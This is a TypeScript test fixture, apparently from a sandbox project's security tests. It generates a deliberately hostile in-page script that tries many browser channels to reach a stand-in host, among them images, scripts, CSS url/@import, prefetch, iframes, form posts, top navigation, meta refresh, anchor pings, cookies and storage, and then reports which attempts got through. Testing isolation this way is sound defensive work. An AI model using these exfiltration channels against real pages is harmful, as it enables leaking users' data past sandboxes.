import { preamble, sharedAttempts, type Targets } from "./hostile-worker.ts";

/**
 * A hostile script in the place of the lockbox's own: it has a window and a document, so it tries what a worker cannot,
 * tells its parent what came of it, and at last navigates itself away.
 */
export const hostileBoot = (targets: Targets): string => `${preamble(targets)}
const loads = (name, attributes, event = "load") => new Promise((done, failed) => {
  const element = document.createElement(name);
  for (const [key, value] of Object.entries(attributes)) element.setAttribute(key, value);
  element.addEventListener(event, done); element.addEventListener("error", failed);
  (document.body ?? document.documentElement).append(element);
});
const link = (rel, more = {}) => loads("link", { rel, href: S + "/" + rel, ...more });
const attempts = {
  ${sharedAttempts}
  image: () => loads("img", { src: S + "/image" }),
  imageSite: () => loads("img", { src: O + "/favicon.svg" }),
  srcset: () => loads("img", { srcset: S + "/srcset 1x" }),
  script: () => loads("script", { src: S + "/script" }),
  inlineScript: () => { const s = document.createElement("script"); s.textContent = "fetch('" + S + "/inline')"; document.head.append(s); throw new Error("said nothing"); },
  speculation: () => { const s = document.createElement("script"); s.type = "speculationrules"; s.textContent = JSON.stringify({ prefetch: [{ source: "list", urls: [S + "/speculation"] }] }); document.head.append(s); throw new Error("said nothing"); },
  stylesheet: () => link("stylesheet"),
  inlineStyle: () => { const s = document.createElement("style"); s.textContent = "*{background:url(" + S + "/style)} @import '" + S + "/import';"; document.head.append(s); throw new Error("said nothing"); },
  styleAttribute: () => { document.documentElement.setAttribute("style", "background:url(" + S + "/attribute)"); throw new Error("said nothing"); },
  prefetch: () => link("prefetch"),
  prefetchSite: () => loads("link", { rel: "prefetch", href: O + "/leak-prefetch" }),
  preload: () => link("preload", { as: "fetch", crossorigin: "" }),
  modulepreload: () => link("modulepreload"),
  preconnect: () => link("preconnect"),
  manifest: () => link("manifest"),
  icon: () => link("icon"),
  iframe: async () => { await loads("iframe", { src: S + "/iframe" }); throw new Error("said nothing"); },
  srcdoc: async () => { await loads("iframe", { srcdoc: "<img src=" + S + "/srcdoc>" }); throw new Error("said nothing"); },
  object: () => loads("object", { data: S + "/object" }),
  embed: () => loads("embed", { src: S + "/embed" }),
  video: () => loads("video", { src: S + "/video", preload: "auto" }, "loadeddata"),
  open: () => { if (!window.open(S + "/open")) throw new Error("refused"); },
  form: () => { const f = document.createElement("form"); f.action = S + "/form"; f.method = "post"; document.documentElement.append(f); f.submit(); throw new Error("said nothing"); },
  topNavigation: () => { top.location.href = S + "/top"; throw new Error("said nothing"); },
  parentDocument: () => parent.document.title,
  localStorage: () => localStorage.setItem("leak", "1"),
  cookie: () => { document.cookie = "leak=1"; },
};
try { new BroadcastChannel("leak").postMessage("LEAK"); } catch {}
tryAll(attempts).then((out) => {
  parent.postMessage({ kind: "died", reason: JSON.stringify(out) }, "*");
  const refresh = document.createElement("meta"); refresh.httpEquiv = "refresh"; refresh.content = "0;url=" + S + "/refresh";
  document.documentElement.append(refresh);
  const pinging = document.createElement("a"); pinging.href = S + "/anchor"; pinging.ping = S + "/ping";
  document.documentElement.append(pinging);
  pinging.click();
  setTimeout(() => { location.href = S + "/navigation"; }, 300);
  setTimeout(() => { location.href = O + "/leak-navigation"; }, 600);
});
`;
